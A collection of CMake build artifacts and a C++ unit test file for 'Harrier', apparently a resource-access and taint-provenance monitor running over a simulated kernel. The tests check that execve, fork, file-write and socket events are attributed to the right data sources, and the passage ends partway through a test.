  "CMakeFiles/hth_clips.dir/Environment.cc.o"
  "CMakeFiles/hth_clips.dir/Environment.cc.o.d"
  "CMakeFiles/hth_clips.dir/Fact.cc.o"
  "CMakeFiles/hth_clips.dir/Fact.cc.o.d"
  "CMakeFiles/hth_clips.dir/Sexpr.cc.o"
  "CMakeFiles/hth_clips.dir/Sexpr.cc.o.d"
  "CMakeFiles/hth_clips.dir/Value.cc.o"
  "CMakeFiles/hth_clips.dir/Value.cc.o.d"
  "libhth_clips.a"
  "libhth_clips.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_clips.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
