
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/clips/Builtins.cc" "src/clips/CMakeFiles/hth_clips.dir/Builtins.cc.o" "gcc" "src/clips/CMakeFiles/hth_clips.dir/Builtins.cc.o.d"
  "/root/repo/src/clips/Environment.cc" "src/clips/CMakeFiles/hth_clips.dir/Environment.cc.o" "gcc" "src/clips/CMakeFiles/hth_clips.dir/Environment.cc.o.d"
  "/root/repo/src/clips/Fact.cc" "src/clips/CMakeFiles/hth_clips.dir/Fact.cc.o" "gcc" "src/clips/CMakeFiles/hth_clips.dir/Fact.cc.o.d"
  "/root/repo/src/clips/Sexpr.cc" "src/clips/CMakeFiles/hth_clips.dir/Sexpr.cc.o" "gcc" "src/clips/CMakeFiles/hth_clips.dir/Sexpr.cc.o.d"
  "/root/repo/src/clips/Value.cc" "src/clips/CMakeFiles/hth_clips.dir/Value.cc.o" "gcc" "src/clips/CMakeFiles/hth_clips.dir/Value.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/hth_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
