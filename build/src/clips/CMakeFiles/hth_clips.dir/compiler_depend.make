# Empty compiler generated dependencies file for hth_clips.
# This may be replaced when dependencies are built.
