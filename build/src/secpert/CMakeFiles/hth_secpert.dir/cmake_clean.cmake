file(REMOVE_RECURSE
  "CMakeFiles/hth_secpert.dir/Policy.cc.o"
  "CMakeFiles/hth_secpert.dir/Policy.cc.o.d"
  "CMakeFiles/hth_secpert.dir/Secpert.cc.o"
  "CMakeFiles/hth_secpert.dir/Secpert.cc.o.d"
  "libhth_secpert.a"
  "libhth_secpert.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_secpert.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
