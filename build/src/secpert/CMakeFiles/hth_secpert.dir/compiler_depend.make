# Empty compiler generated dependencies file for hth_secpert.
# This may be replaced when dependencies are built.
