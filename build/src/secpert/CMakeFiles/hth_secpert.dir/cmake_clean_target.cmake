file(REMOVE_RECURSE
  "libhth_secpert.a"
)
