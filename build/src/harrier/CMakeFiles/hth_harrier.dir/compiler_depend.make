# Empty compiler generated dependencies file for hth_harrier.
# This may be replaced when dependencies are built.
