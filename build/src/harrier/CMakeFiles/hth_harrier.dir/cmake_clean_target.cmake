file(REMOVE_RECURSE
  "libhth_harrier.a"
)
