file(REMOVE_RECURSE
  "CMakeFiles/hth_harrier.dir/Harrier.cc.o"
  "CMakeFiles/hth_harrier.dir/Harrier.cc.o.d"
  "libhth_harrier.a"
  "libhth_harrier.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_harrier.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
