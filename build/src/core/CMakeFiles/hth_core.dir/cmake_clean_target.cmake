file(REMOVE_RECURSE
  "libhth_core.a"
)
