file(REMOVE_RECURSE
  "CMakeFiles/hth_core.dir/Hth.cc.o"
  "CMakeFiles/hth_core.dir/Hth.cc.o.d"
  "CMakeFiles/hth_core.dir/SecureBinary.cc.o"
  "CMakeFiles/hth_core.dir/SecureBinary.cc.o.d"
  "libhth_core.a"
  "libhth_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
