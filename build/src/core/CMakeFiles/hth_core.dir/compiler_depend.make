# Empty compiler generated dependencies file for hth_core.
# This may be replaced when dependencies are built.
