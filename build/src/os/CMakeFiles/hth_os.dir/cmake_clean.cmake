file(REMOVE_RECURSE
  "CMakeFiles/hth_os.dir/Kernel.cc.o"
  "CMakeFiles/hth_os.dir/Kernel.cc.o.d"
  "CMakeFiles/hth_os.dir/Libc.cc.o"
  "CMakeFiles/hth_os.dir/Libc.cc.o.d"
  "CMakeFiles/hth_os.dir/Net.cc.o"
  "CMakeFiles/hth_os.dir/Net.cc.o.d"
  "CMakeFiles/hth_os.dir/Vfs.cc.o"
  "CMakeFiles/hth_os.dir/Vfs.cc.o.d"
  "libhth_os.a"
  "libhth_os.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_os.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
