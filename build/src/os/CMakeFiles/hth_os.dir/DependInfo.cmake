
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/os/Kernel.cc" "src/os/CMakeFiles/hth_os.dir/Kernel.cc.o" "gcc" "src/os/CMakeFiles/hth_os.dir/Kernel.cc.o.d"
  "/root/repo/src/os/Libc.cc" "src/os/CMakeFiles/hth_os.dir/Libc.cc.o" "gcc" "src/os/CMakeFiles/hth_os.dir/Libc.cc.o.d"
  "/root/repo/src/os/Net.cc" "src/os/CMakeFiles/hth_os.dir/Net.cc.o" "gcc" "src/os/CMakeFiles/hth_os.dir/Net.cc.o.d"
  "/root/repo/src/os/Vfs.cc" "src/os/CMakeFiles/hth_os.dir/Vfs.cc.o" "gcc" "src/os/CMakeFiles/hth_os.dir/Vfs.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/vm/CMakeFiles/hth_vm.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/hth_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/hth_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
