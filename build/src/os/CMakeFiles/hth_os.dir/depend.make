# Empty dependencies file for hth_os.
# This may be replaced when dependencies are built.
