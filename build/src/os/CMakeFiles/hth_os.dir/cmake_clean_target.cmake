file(REMOVE_RECURSE
  "libhth_os.a"
)
