# Empty compiler generated dependencies file for hth_taint.
# This may be replaced when dependencies are built.
