file(REMOVE_RECURSE
  "CMakeFiles/hth_taint.dir/TagSet.cc.o"
  "CMakeFiles/hth_taint.dir/TagSet.cc.o.d"
  "libhth_taint.a"
  "libhth_taint.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_taint.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
