file(REMOVE_RECURSE
  "libhth_taint.a"
)
