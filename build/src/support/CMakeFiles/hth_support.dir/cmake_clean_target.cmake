file(REMOVE_RECURSE
  "libhth_support.a"
)
