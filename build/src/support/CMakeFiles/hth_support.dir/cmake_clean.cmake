file(REMOVE_RECURSE
  "CMakeFiles/hth_support.dir/StrUtil.cc.o"
  "CMakeFiles/hth_support.dir/StrUtil.cc.o.d"
  "libhth_support.a"
  "libhth_support.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_support.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
