# Empty compiler generated dependencies file for hth_support.
# This may be replaced when dependencies are built.
