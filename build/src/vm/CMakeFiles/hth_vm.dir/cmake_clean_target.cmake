file(REMOVE_RECURSE
  "libhth_vm.a"
)
