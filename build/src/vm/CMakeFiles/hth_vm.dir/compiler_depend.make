# Empty compiler generated dependencies file for hth_vm.
# This may be replaced when dependencies are built.
