
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/vm/Asm.cc" "src/vm/CMakeFiles/hth_vm.dir/Asm.cc.o" "gcc" "src/vm/CMakeFiles/hth_vm.dir/Asm.cc.o.d"
  "/root/repo/src/vm/Isa.cc" "src/vm/CMakeFiles/hth_vm.dir/Isa.cc.o" "gcc" "src/vm/CMakeFiles/hth_vm.dir/Isa.cc.o.d"
  "/root/repo/src/vm/Machine.cc" "src/vm/CMakeFiles/hth_vm.dir/Machine.cc.o" "gcc" "src/vm/CMakeFiles/hth_vm.dir/Machine.cc.o.d"
  "/root/repo/src/vm/TextAsm.cc" "src/vm/CMakeFiles/hth_vm.dir/TextAsm.cc.o" "gcc" "src/vm/CMakeFiles/hth_vm.dir/TextAsm.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/taint/CMakeFiles/hth_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/hth_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
