file(REMOVE_RECURSE
  "CMakeFiles/hth_vm.dir/Asm.cc.o"
  "CMakeFiles/hth_vm.dir/Asm.cc.o.d"
  "CMakeFiles/hth_vm.dir/Isa.cc.o"
  "CMakeFiles/hth_vm.dir/Isa.cc.o.d"
  "CMakeFiles/hth_vm.dir/Machine.cc.o"
  "CMakeFiles/hth_vm.dir/Machine.cc.o.d"
  "CMakeFiles/hth_vm.dir/TextAsm.cc.o"
  "CMakeFiles/hth_vm.dir/TextAsm.cc.o.d"
  "libhth_vm.a"
  "libhth_vm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_vm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
