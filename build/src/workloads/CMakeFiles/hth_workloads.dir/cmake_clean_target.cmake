file(REMOVE_RECURSE
  "libhth_workloads.a"
)
