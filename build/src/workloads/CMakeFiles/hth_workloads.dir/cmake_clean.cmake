file(REMOVE_RECURSE
  "CMakeFiles/hth_workloads.dir/Characterize.cc.o"
  "CMakeFiles/hth_workloads.dir/Characterize.cc.o.d"
  "CMakeFiles/hth_workloads.dir/Exploits.cc.o"
  "CMakeFiles/hth_workloads.dir/Exploits.cc.o.d"
  "CMakeFiles/hth_workloads.dir/GuestLib.cc.o"
  "CMakeFiles/hth_workloads.dir/GuestLib.cc.o.d"
  "CMakeFiles/hth_workloads.dir/Macro.cc.o"
  "CMakeFiles/hth_workloads.dir/Macro.cc.o.d"
  "CMakeFiles/hth_workloads.dir/Micro.cc.o"
  "CMakeFiles/hth_workloads.dir/Micro.cc.o.d"
  "CMakeFiles/hth_workloads.dir/Scenario.cc.o"
  "CMakeFiles/hth_workloads.dir/Scenario.cc.o.d"
  "CMakeFiles/hth_workloads.dir/Trusted.cc.o"
  "CMakeFiles/hth_workloads.dir/Trusted.cc.o.d"
  "libhth_workloads.a"
  "libhth_workloads.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/hth_workloads.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
