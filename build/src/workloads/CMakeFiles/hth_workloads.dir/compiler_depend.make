# Empty compiler generated dependencies file for hth_workloads.
# This may be replaced when dependencies are built.
