# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/clips_test[1]_include.cmake")
include("/root/repo/build/tests/smoke_test[1]_include.cmake")
include("/root/repo/build/tests/support_test[1]_include.cmake")
include("/root/repo/build/tests/taint_test[1]_include.cmake")
include("/root/repo/build/tests/vm_test[1]_include.cmake")
include("/root/repo/build/tests/os_test[1]_include.cmake")
include("/root/repo/build/tests/harrier_test[1]_include.cmake")
include("/root/repo/build/tests/secpert_test[1]_include.cmake")
include("/root/repo/build/tests/core_test[1]_include.cmake")
include("/root/repo/build/tests/extensions_test[1]_include.cmake")
include("/root/repo/build/tests/vm_property_test[1]_include.cmake")
include("/root/repo/build/tests/fidelity_test[1]_include.cmake")
include("/root/repo/build/tests/clips_edge_test[1]_include.cmake")
include("/root/repo/build/tests/textasm_test[1]_include.cmake")
include("/root/repo/build/tests/simultaneous_test[1]_include.cmake")
include("/root/repo/build/tests/persistence_test[1]_include.cmake")
include("/root/repo/build/tests/blocking_test[1]_include.cmake")
include("/root/repo/build/tests/workloads_test[1]_include.cmake")
