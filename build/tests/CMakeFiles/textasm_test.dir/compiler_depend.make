# Empty compiler generated dependencies file for textasm_test.
# This may be replaced when dependencies are built.
