file(REMOVE_RECURSE
  "CMakeFiles/textasm_test.dir/vm/TextAsmTest.cc.o"
  "CMakeFiles/textasm_test.dir/vm/TextAsmTest.cc.o.d"
  "textasm_test"
  "textasm_test.pdb"
  "textasm_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/textasm_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
