file(REMOVE_RECURSE
  "CMakeFiles/clips_test.dir/clips/EnvironmentTest.cc.o"
  "CMakeFiles/clips_test.dir/clips/EnvironmentTest.cc.o.d"
  "clips_test"
  "clips_test.pdb"
  "clips_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/clips_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
