
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/clips/EnvironmentTest.cc" "tests/CMakeFiles/clips_test.dir/clips/EnvironmentTest.cc.o" "gcc" "tests/CMakeFiles/clips_test.dir/clips/EnvironmentTest.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/clips/CMakeFiles/hth_clips.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/hth_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
