# Empty dependencies file for clips_test.
# This may be replaced when dependencies are built.
