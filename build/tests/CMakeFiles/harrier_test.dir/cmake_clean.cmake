file(REMOVE_RECURSE
  "CMakeFiles/harrier_test.dir/harrier/HarrierTest.cc.o"
  "CMakeFiles/harrier_test.dir/harrier/HarrierTest.cc.o.d"
  "harrier_test"
  "harrier_test.pdb"
  "harrier_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/harrier_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
