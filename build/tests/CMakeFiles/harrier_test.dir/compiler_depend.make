# Empty compiler generated dependencies file for harrier_test.
# This may be replaced when dependencies are built.
