# Empty compiler generated dependencies file for simultaneous_test.
# This may be replaced when dependencies are built.
