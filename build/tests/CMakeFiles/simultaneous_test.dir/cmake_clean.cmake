file(REMOVE_RECURSE
  "CMakeFiles/simultaneous_test.dir/integration/SimultaneousTest.cc.o"
  "CMakeFiles/simultaneous_test.dir/integration/SimultaneousTest.cc.o.d"
  "simultaneous_test"
  "simultaneous_test.pdb"
  "simultaneous_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/simultaneous_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
