file(REMOVE_RECURSE
  "CMakeFiles/clips_edge_test.dir/clips/ClipsEdgeTest.cc.o"
  "CMakeFiles/clips_edge_test.dir/clips/ClipsEdgeTest.cc.o.d"
  "clips_edge_test"
  "clips_edge_test.pdb"
  "clips_edge_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/clips_edge_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
