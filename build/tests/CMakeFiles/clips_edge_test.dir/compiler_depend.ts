# CMAKE generated file: DO NOT EDIT!
# Timestamp file for compiler generated dependencies management for clips_edge_test.
