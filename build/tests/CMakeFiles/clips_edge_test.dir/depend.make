# Empty dependencies file for clips_edge_test.
# This may be replaced when dependencies are built.
