# Empty compiler generated dependencies file for secpert_test.
# This may be replaced when dependencies are built.
