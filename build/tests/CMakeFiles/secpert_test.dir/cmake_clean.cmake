file(REMOVE_RECURSE
  "CMakeFiles/secpert_test.dir/secpert/SecpertTest.cc.o"
  "CMakeFiles/secpert_test.dir/secpert/SecpertTest.cc.o.d"
  "secpert_test"
  "secpert_test.pdb"
  "secpert_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/secpert_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
