# CMAKE generated file: DO NOT EDIT!
# Timestamp file for compiler generated dependencies management for secpert_test.
