# Empty dependencies file for bench_table4_execflow.
# This may be replaced when dependencies are built.
