file(REMOVE_RECURSE
  "CMakeFiles/bench_table4_execflow.dir/bench_table4_execflow.cc.o"
  "CMakeFiles/bench_table4_execflow.dir/bench_table4_execflow.cc.o.d"
  "bench_table4_execflow"
  "bench_table4_execflow.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table4_execflow.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
