file(REMOVE_RECURSE
  "CMakeFiles/bench_table6_infoflow.dir/bench_table6_infoflow.cc.o"
  "CMakeFiles/bench_table6_infoflow.dir/bench_table6_infoflow.cc.o.d"
  "bench_table6_infoflow"
  "bench_table6_infoflow.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table6_infoflow.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
