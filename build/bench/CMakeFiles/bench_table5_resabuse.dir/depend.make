# Empty dependencies file for bench_table5_resabuse.
# This may be replaced when dependencies are built.
