file(REMOVE_RECURSE
  "CMakeFiles/bench_table5_resabuse.dir/bench_table5_resabuse.cc.o"
  "CMakeFiles/bench_table5_resabuse.dir/bench_table5_resabuse.cc.o.d"
  "bench_table5_resabuse"
  "bench_table5_resabuse.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table5_resabuse.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
