file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_granularity.dir/bench_table3_granularity.cc.o"
  "CMakeFiles/bench_table3_granularity.dir/bench_table3_granularity.cc.o.d"
  "bench_table3_granularity"
  "bench_table3_granularity.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_granularity.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
