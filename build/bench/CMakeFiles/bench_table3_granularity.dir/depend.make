# Empty dependencies file for bench_table3_granularity.
# This may be replaced when dependencies are built.
