# Empty dependencies file for bench_table7_trusted.
# This may be replaced when dependencies are built.
