file(REMOVE_RECURSE
  "CMakeFiles/bench_table7_trusted.dir/bench_table7_trusted.cc.o"
  "CMakeFiles/bench_table7_trusted.dir/bench_table7_trusted.cc.o.d"
  "bench_table7_trusted"
  "bench_table7_trusted.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table7_trusted.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
