file(REMOVE_RECURSE
  "CMakeFiles/bench_macro.dir/bench_macro.cc.o"
  "CMakeFiles/bench_macro.dir/bench_macro.cc.o.d"
  "bench_macro"
  "bench_macro.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_macro.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
