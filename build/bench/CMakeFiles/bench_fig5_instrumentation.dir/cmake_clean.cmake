file(REMOVE_RECURSE
  "CMakeFiles/bench_fig5_instrumentation.dir/bench_fig5_instrumentation.cc.o"
  "CMakeFiles/bench_fig5_instrumentation.dir/bench_fig5_instrumentation.cc.o.d"
  "bench_fig5_instrumentation"
  "bench_fig5_instrumentation.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig5_instrumentation.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
