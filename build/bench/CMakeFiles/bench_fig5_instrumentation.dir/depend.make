# Empty dependencies file for bench_fig5_instrumentation.
# This may be replaced when dependencies are built.
