/**
 * @file
 * Unit tests for the Harrier monitor: BB frequency with
 * application-image attribution, event formatting, per-source IO
 * event expansion, the gethostbyname short-circuit, and server
 * context propagation.
 */

#include <gtest/gtest.h>

#include "harrier/Harrier.hh"
#include "os/Kernel.hh"
#include "os/Libc.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::harrier;
using namespace hth::os;
using namespace hth::workloads;
using taint::SourceType;

namespace
{

/** Captures every event Harrier emits. */
struct CapturingSink : EventSink
{
    std::vector<ResourceAccessEvent> access;
    std::vector<ResourceIoEvent> io;

    void
    onResourceAccess(const ResourceAccessEvent &ev) override
    {
        access.push_back(ev);
    }
    void
    onResourceIo(const ResourceIoEvent &ev) override
    {
        io.push_back(ev);
    }

    const ResourceAccessEvent *
    findAccess(const std::string &syscall) const
    {
        for (const auto &ev : access)
            if (ev.syscall == syscall)
                return &ev;
        return nullptr;
    }

    std::vector<const ResourceIoEvent *>
    writesTo(const std::string &target) const
    {
        std::vector<const ResourceIoEvent *> out;
        for (const auto &ev : io)
            if (ev.isWrite && ev.targetName == target)
                out.push_back(&ev);
        return out;
    }
};

class HarrierTest : public ::testing::Test
{
  protected:
    HarrierTest() : harrier(sink)
    {
        kernel.setTaintTracking(true);
        installLibc(kernel);
        harrier.attach(kernel);
    }

    Process &
    start(Gasm &a, std::vector<std::string> argv = {})
    {
        auto image = a.build();
        kernel.vfs().addBinary(image->path, image);
        if (argv.empty())
            argv = {image->path};
        return kernel.spawn(image->path, argv);
    }

    Kernel kernel;
    CapturingSink sink;
    Harrier harrier;
};

} // namespace

TEST_F(HarrierTest, ExecveEventCarriesBinaryOrigin)
{
    Gasm a("/t/h1");
    a.dataString("prog", "/bin/nothing");
    a.label("main");
    a.entry("main");
    a.execveSym("prog");
    a.exit(0);
    start(a);
    kernel.run();

    const ResourceAccessEvent *ev = sink.findAccess("SYS_execve");
    ASSERT_NE(ev, nullptr);
    EXPECT_EQ(ev->resName, "/bin/nothing");
    EXPECT_EQ(ev->resType, SourceType::File);
    ASSERT_EQ(ev->origins.size(), 1u);
    EXPECT_EQ(ev->origins[0].type, SourceType::Binary);
    EXPECT_EQ(ev->origins[0].name, "/t/h1");
    EXPECT_FALSE(ev->isProcessCreate);
}

TEST_F(HarrierTest, ExecveFromArgvCarriesUserOrigin)
{
    Gasm a("/t/h2");
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.loadArgv(1);
    a.execveReg(Reg::Eax);
    a.exit(0);
    start(a, {"/t/h2", "/bin/x"});
    kernel.run();

    const ResourceAccessEvent *ev = sink.findAccess("SYS_execve");
    ASSERT_NE(ev, nullptr);
    ASSERT_EQ(ev->origins.size(), 1u);
    EXPECT_EQ(ev->origins[0].type, SourceType::UserInput);
}

TEST_F(HarrierTest, ForkEventMarksProcessCreate)
{
    Gasm a("/t/h3");
    a.label("main");
    a.entry("main");
    a.fork();
    a.exit(0);
    start(a);
    kernel.run();
    const ResourceAccessEvent *ev = sink.findAccess("SYS_fork");
    ASSERT_NE(ev, nullptr);
    EXPECT_TRUE(ev->isProcessCreate);
}

TEST_F(HarrierTest, WriteExpandsPerDataSource)
{
    // Write a buffer mixing file data and hard-coded data: one IO
    // event per source (the paper's one-warning-per-source shape).
    Gasm a("/t/h4");
    a.dataString("payload", "hard");
    a.dataString("inpath", "/data/in");
    a.dataString("outpath", "/data/out");
    a.dataSpace("buf", 8);
    a.label("main");
    a.entry("main");
    a.openSym("inpath", GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.readFd(Reg::Ebp, "buf", 4);
    a.closeFd(Reg::Ebp);
    // buf[4..7] <- hard-coded bytes
    a.leaSym(Reg::Esi, "payload");
    a.load(Reg::Eax, Reg::Esi, 0);
    a.leaSym(Reg::Edi, "buf");
    a.store(Reg::Edi, 4, Reg::Eax);
    a.creatSym("outpath");
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "buf", 8);
    a.exit(0);
    kernel.vfs().addFile("/data/in", "file-bytes");
    start(a);
    kernel.run();

    auto writes = sink.writesTo("/data/out");
    ASSERT_EQ(writes.size(), 2u);
    std::set<SourceType> sources;
    for (const auto *ev : writes)
        sources.insert(ev->source.type);
    EXPECT_TRUE(sources.count(SourceType::File));
    EXPECT_TRUE(sources.count(SourceType::Binary));
    // The file source's own name was hard-coded.
    for (const auto *ev : writes) {
        if (ev->source.type == SourceType::File) {
            ASSERT_EQ(ev->sourceOrigins.size(), 1u);
            EXPECT_EQ(ev->sourceOrigins[0].type, SourceType::Binary);
        }
    }
}

TEST_F(HarrierTest, UntaintedWriteStillReported)
{
    Gasm a("/t/h5");
    a.dataString("outpath", "/data/out");
    a.dataSpace("buf", 4);      // bss: untagged
    a.label("main");
    a.entry("main");
    a.creatSym("outpath");
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "buf", 4);
    a.exit(0);
    start(a);
    kernel.run();
    auto writes = sink.writesTo("/data/out");
    ASSERT_EQ(writes.size(), 1u);
    EXPECT_EQ(writes[0]->source.type, SourceType::Unknown);
}

TEST_F(HarrierTest, BbFrequencyAttribution)
{
    // A loop body calling into libc: the event frequency must count
    // the *application* BB, not shared-object blocks (Fig. 3).
    Gasm a("/t/h6");
    a.dataString("src", "x");
    a.dataSpace("dst", 8);
    a.dataString("prog", "/bin/nothing");
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebp, 0);
    a.label("loop");
    a.libc2("strcpy", "dst", "src");
    a.addi(Reg::Ebp, 1);
    a.cmpi(Reg::Ebp, 4);
    a.jl("loop");
    a.execveSym("prog");
    a.exit(0);
    Process &p = start(a);
    kernel.run();

    const ResourceAccessEvent *ev = sink.findAccess("SYS_execve");
    ASSERT_NE(ev, nullptr);
    // The execve BB runs once even though the loop BB ran 4 times
    // and libc blocks ran more.
    EXPECT_EQ(ev->ctx.frequency, 1u);
    (void)p;
}

TEST_F(HarrierTest, ShortCircuitCopiesNameProvenance)
{
    kernel.net().addHost("duero");
    Gasm a("/t/h7");
    a.dataString("host", "duero");
    a.dataString("outpath", "/loot");
    a.dataSpace("addr", 32);
    a.label("main");
    a.entry("main");
    a.libc1("gethostbyname", "host");
    a.leaSym(Reg::Edx, "addr");
    a.inlineStrcpy(Reg::Edx, Reg::Eax);
    // Write the resolved address into a file so its provenance shows
    // up as the write event's data source.
    a.creatSym("outpath");
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "addr", 8);
    a.exit(0);
    start(a);
    kernel.run();

    auto writes = sink.writesTo("/loot");
    ASSERT_FALSE(writes.empty());
    // Short-circuit ON (default): the resolved address carries the
    // guest binary's provenance, not the resolver database's.
    bool has_binary = false;
    for (const auto *ev : writes)
        has_binary = has_binary ||
                     ev->source.type == SourceType::Binary;
    EXPECT_TRUE(has_binary);
    EXPECT_GT(harrier.stats().shortCircuits, 0u);
}

TEST_F(HarrierTest, ServerContextAttachedToAcceptedWrites)
{
    Gasm a("/t/h8");
    a.dataString("bindaddr", "LocalHost:2323");
    a.dataString("greeting", "hello-from-server");
    a.label("main");
    a.entry("main");
    a.sockCreate();
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, "bindaddr");
    a.sockBind(Reg::Ebp, Reg::Edx);
    a.sockListen(Reg::Ebp);
    a.sockAccept(Reg::Ebp);
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Ecx, "greeting");
    a.movi(Reg::Edx, 17);
    a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    a.exit(0);
    auto image = a.build();
    kernel.vfs().addBinary(image->path, image);
    kernel.net().addHost("gateway");
    RemotePeer client;
    client.name = "gateway:40000";
    kernel.net().addRemoteClient("LocalHost:2323", client);
    kernel.spawn(image->path, {image->path});
    kernel.run();

    auto writes = sink.writesTo("gateway:40000");
    ASSERT_FALSE(writes.empty());
    EXPECT_TRUE(writes[0]->viaServer);
    EXPECT_EQ(writes[0]->serverName, "LocalHost:2323");
    ASSERT_FALSE(writes[0]->serverOrigins.empty());
    EXPECT_EQ(writes[0]->serverOrigins[0].type, SourceType::Binary);
    // Target origins are the server's for accepted connections.
    EXPECT_EQ(writes[0]->targetOrigins, writes[0]->serverOrigins);
}

TEST_F(HarrierTest, ReadsForwardedWhenEnabled)
{
